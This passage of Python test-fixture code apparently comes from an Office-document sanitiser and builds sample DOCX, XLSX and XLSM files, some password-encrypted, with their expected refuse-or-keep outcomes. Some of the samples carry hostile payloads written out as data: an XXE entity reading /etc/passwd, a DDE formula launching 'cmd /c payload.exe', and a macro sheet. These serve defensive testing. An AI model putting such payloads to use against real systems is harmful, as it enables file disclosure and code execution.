        b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1)
    twins = list(document(HONEST).members())
    twins.append(("word/Document.xml", twins[-1][1]))
    only_macro = workbook(("Macro1", rows([cell("A1", 1)])), content_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    only_macro.relations["xl/workbook.xml"] = [row for row in only_macro.relations["xl/workbook.xml"] if row[1] != "worksheet"]
    only_macro.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<x/>", kind=MICROSOFT + "2006/relationships/xlMacrosheet", number="rId1")
    return [Sample("実体宣言.docx", entity.bytes(), construct="doctype", refused="ooxml_doctype"),
            Sample("同名部品.docx", parts.zip_bytes(twins), construct="duplicate_name", refused="ooxml_duplicate"),
            Sample("マクロのみ.xlsm", only_macro.bytes(), construct="xlm", refused="ooxml_nothing_left")]


def closed():
    """Closed with a password: opened with the right one, held without, refused with another."""
    package = document(HONEST).bytes()
    dde = workbook(("表", rows([cell("A1", VALUE, "cmd|'/c payload.exe'!A0")]))).bytes()
    agile = ooxml_crypt.close(package, "みほん2024")
    return [Sample("暗号_新方式.docx", agile, stays=(HONEST,), password="みほん2024"),
            Sample("暗号_標準方式.docx", ooxml_crypt.close(package, "abc", ooxml_crypt.standard), stays=(HONEST,), password="abc"),
            Sample("暗号_照合値なし.docx", ooxml_crypt.close(package, "abc", ooxml_crypt.agile_without_integrity), stays=(HONEST,), password="abc"),
            Sample("暗号_改変.docx", ooxml_crypt.close(package, "abc", ooxml_crypt.agile_altered), refused="ooxml_altered", password="abc"),
            Sample("暗号_テキスト化.docx", agile, stays=(HONEST,), treatment="text", password="みほん2024"),
            Sample("暗号_保留.docx", agile, refused="password_needed"),
            Sample("暗号_違う鍵.docx", agile, refused="password_wrong", password="ちがう"),
            Sample("書き込み保護.xlsx", ooxml_crypt.close(dde, "VelvetSweatshop"), stays=(VALUE,))]


def samples():
    return (honest() + text_only() + macros() + word_objects() + word_links() + word_fields() + word_parts() + excel_formulas() + excel_parts() + slides() + refused() + closed())
